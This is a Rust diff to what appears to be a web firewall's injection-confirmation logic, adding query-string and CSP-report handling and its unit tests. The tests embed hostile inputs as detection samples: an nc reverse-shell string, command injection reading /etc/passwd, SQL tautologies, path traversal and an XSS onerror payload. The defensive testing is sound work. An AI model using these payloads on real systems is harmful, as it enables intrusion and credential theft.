@@ -28,6 +28,7 @@ mod graphql;
 mod message;
 mod name;
 mod redirect;
+mod report;
 mod shape;
 pub use shape::Shape;
 mod shell;
@@ -90,7 +91,11 @@ pub fn confirm(
         };
     }
     if confirm == Confirm::Code
-        && let Some(reason) = redirect::loopback_redirect(request.name, raw)
+        && let Some(reason) = hit
+            .phrase
+            .then(|| name::dotted_name_part(transformed, hit.span.clone()))
+            .flatten()
+            .or_else(|| redirect::loopback_redirect(request.name, raw))
     {
         return Confirmation {
             confirmed: false,
@@ -130,47 +135,102 @@ pub fn confirm(
     }
     // Only data needs a parser's word; a fragment of no other shape scores as its pattern says. The shape is the
     // value's as the application receives it: decoding it further is a guess, which finds injections, not data.
-    let shape = shape::data_shape(raw);
+    let shape = match report::is_code_sample(request) {
+        true => Some(Shape::Sample),
+        false => shape::data_shape(raw),
+    };
     // Code of no parser here (file inclusion, SSRF, PHP) is written as a name or a URL: those score as written.
     let Some(shape) = shape
         .filter(|shape| confirm != Confirm::Code || !matches!(shape, Shape::Token | Shape::Url))
     else {
         return Confirmation {
             confirmed: true,
-            reason: "a fragment, not data: scored as the pattern says".to_owned(),
+            reason: FRAGMENT.to_owned(),
         };
     };
     let forms = forms(raw, transformed, map);
-    let found = match confirm {
-        Confirm::Sql => forms.iter().find_map(|form| sql::injection(form, shape)),
-        Confirm::Xss => forms.iter().find_map(|form| xss::injection(form)),
-        Confirm::Shell => forms.iter().find_map(|form| shell::injection(form)),
-        Confirm::Code | Confirm::Fixation | Confirm::Message | Confirm::None => None,
-    };
-    match found {
+    if shape == Shape::Pairs {
+        return pairs(confirm, &forms, transformed.get(hit.span.clone()));
+    }
+    match forms.iter().find_map(|form| parse(confirm, form, shape)) {
         Some(reason) => Confirmation {
             confirmed: true,
             reason,
         },
         None => Confirmation {
             confirmed: false,
-            reason: format!(
-                "{}, and {}",
-                shape.describe(),
-                match confirm {
-                    Confirm::Sql => {
-                        "no SQL injection fingerprint in any quote context, or none that parses as one"
-                    }
-                    Confirm::Xss => "no script, event handler or scripting URL in any HTML context",
-                    Confirm::Shell => "no command line where an argument can end",
-                    Confirm::Code | Confirm::Fixation | Confirm::Message | Confirm::None => {
-                        "no parser of the language to find code there"
-                    }
-                }
-            ),
+            reason: format!("{}, and {}", shape.describe(), not_found(confirm)),
         },
     }
 }
+
+/// What the parser of `confirm`'s language finds in `form`, data of `shape`.
+fn parse(confirm: Confirm, form: &[u8], shape: Shape) -> Option<String> {
+    match confirm {
+        Confirm::Sql => sql::injection(form, shape),
+        Confirm::Xss => xss::injection(form),
+        Confirm::Shell => shell::injection(form),
+        Confirm::Code | Confirm::Fixation | Confirm::Message | Confirm::None => None,
+    }
+}
+
+/// What the parser of `confirm`'s language looked for and did not find.
+fn not_found(confirm: Confirm) -> &'static str {
+    match confirm {
+        Confirm::Sql => {
+            "no SQL injection fingerprint in any quote context, or none that parses as one"
+        }
+        Confirm::Xss => "no script, event handler or scripting URL in any HTML context",
+        Confirm::Shell => "no command line where an argument can end",
+        Confirm::Code | Confirm::Fixation | Confirm::Message | Confirm::None => {
+            "no parser of the language to find code there"
+        }
+    }
+}
+
+/// A query string in a value is judged by its values, each as the application that splits it reads it: its
+/// `=` and `&` are its own syntax, not an assignment's or a command's (`kw=script font` is a keyword, not
+/// `script` after `=`). A value that is a fragment still scores as written, unless the pattern's `hit` was on
+/// the query string's own `=` or `&`.
+fn pairs(confirm: Confirm, forms: &[Cow<'_, [u8]>], hit: Option<&[u8]>) -> Confirmation {
+    let values: Vec<&[u8]> = forms
+        .iter()
+        .flat_map(|form| shape::pair_values(form))
+        .collect();
+    let value_shape = |value: &[u8]| shape::data_shape(value);
+    if let Some(reason) = values
+        .iter()
+        .find_map(|value| parse(confirm, value, value_shape(value).unwrap_or(Shape::Token)))
+    {
+        return Confirmation {
+            confirmed: true,
+            reason: format!("in a value of a query string: {reason}"),
+        };
+    }
+    let on_syntax = hit.is_some_and(|hit| {
+        [hit.first(), hit.last()]
+            .into_iter()
+            .flatten()
+            .any(|b| matches!(b, b'=' | b'&'))
+    });
+    if !on_syntax && values.iter().any(|value| value_shape(value).is_none()) {
+        return Confirmation {
+            confirmed: true,
+            reason: format!("{FRAGMENT} (in a query string)"),
+        };
+    }
+    Confirmation {
+        confirmed: false,
+        reason: format!(
+            "{}, and {} in any of its values",
+            Shape::Pairs.describe(),
+            not_found(confirm)
+        ),
+    }
+}
+
+/// Why a hit in a value of no data shape counts.
+const FRAGMENT: &str = "a fragment, not data: scored as the pattern says";
 
 /// What a confirmer reads: the value as received, its decoded forms, and the form the rule's transforms made
 /// unless those invented its bytes.
@@ -218,6 +278,89 @@ mod tests {
         assert!(confirmed(Confirm::Shell, "x|nc 10.0.0.1 4444 -e /bin/sh"));
         // A fragment of no data shape scores as its pattern says.
         assert!(confirmed(Confirm::Sql, "database ("));
+    }
+
+    fn confirmed_at(kind: Confirm, value: &str, hit: &str, request: Request<'_>) -> bool {
+        let start = value.find(hit).expect("the hit is in the value");
+        confirm(
+            kind,
+            value.as_bytes(),
+            value.as_bytes(),
+            Hit {
+                span: start..start + hit.len(),
+                phrase: false,
+            },
+            UnicodeMap::default(),
+            request,
+        )
+        .confirmed
+    }
+
+    #[test]
+    fn a_query_string_is_judged_by_its_values() {
+        let plain = Request::default();
+        // An ad server's targeting: `=script ` is the pairs' syntax before a keyword.
+        let targeting = "pos=top&kw=script font|pos=side";
+        assert!(!confirmed_at(Confirm::Shell, targeting, "=script ", plain));
+        assert!(confirmed_at(
+            Confirm::Shell,
+            "a=1&b=sleep 5",
+            "=sleep ",
+            plain
+        ));
+        assert!(confirmed_at(
+            Confirm::Shell,
+            "a=1&b=x;cat /etc/passwd",
+            ";cat ",
+            plain
+        ));
+        assert!(confirmed_at(
+            Confirm::Sql,
+            "a=1&id=1' or '1'='1",
+            "' or '",
+            plain
+        ));
+        // A hit inside a value of no data shape scores as written, as the value alone would.
+        assert!(confirmed_at(
+            Confirm::Code,
+            "a=1&file=../../etc/passwd",
+            "etc/passwd",
+            plain
+        ));
+    }
+
+    #[test]
+    fn a_violation_reports_code_sample_needs_a_parser() {
+        let headers = [("content-type", &b"application/csp-report"[..])];
+        let report = Request {
+            headers: &headers,
+            name: b"json.csp-report.script-sample",
+        };
+        assert!(!confirmed_at(
+            Confirm::Xss,
+            "console.log(",
+            "console.log(",
+            report
+        ));
+        assert!(!confirmed_at(
+            Confirm::Code,
+            "console.log(",
+            "console.log(",
+            report
+        ));
+        assert!(confirmed_at(
+            Confirm::Xss,
+            "<img src=x onerror=alert(1)>",
+            "onerror",
+            report
+        ));
+        // The same fragment elsewhere scores as written.
+        assert!(confirmed_at(
+            Confirm::Xss,
+            "console.log(",
+            "console.log(",
+            Request::default()
+        ));
     }
 
     #[test]
